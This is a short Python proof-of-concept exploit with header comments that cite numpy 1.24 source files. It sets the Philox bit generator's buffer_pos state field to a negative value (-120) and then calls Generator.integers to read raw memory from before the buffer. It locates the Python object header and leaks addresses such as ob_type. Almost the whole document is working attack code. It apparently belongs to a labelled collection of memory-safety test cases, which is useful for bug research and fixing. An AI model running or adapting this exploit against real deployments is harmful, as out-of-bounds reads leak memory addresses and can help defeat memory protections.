# source: numpy 1.24 numpy/random/_philox.pyx Philox.state setter (buffer_pos unchecked), philox.h philox_next64; _generator.pyx Generator.integers (full uint64 range returns next_uint64 as is)
# family: unchecked index in a bit generator's state (Philox buffer_pos, through the Generator API)
# goal: out-of-bounds memory read: np.random.Generator(np.random.Philox(0)), bit_generator.state with buffer_pos=-120, then integers() returns the raw words before the buffer (the object's header, found by its ob_type)
import numpy as np

M64 = 0xFFFFFFFFFFFFFFFF
h = hash(np.random.Philox) & M64
type_addr = ((h << 4) | (h >> 60)) & M64

g = np.random.Generator(np.random.Philox(0))
s = g.bit_generator.state
n = 120
s["buffer_pos"] = -n
g.bit_generator.state = s
q = [int(v) for v in g.integers(0, 2**64, size=n, dtype=np.uint64, endpoint=False)]
for i, v in enumerate(q):
    if v == type_addr:
        print("Generator(Philox): read ob_type", hex(v), "(the Philox type) at buffer[%d]; ob_refcnt before it =" % (-n + i), q[i - 1])
        break
print("raw words before buffer[0]:", [hex(v) for v in q[-8:]])
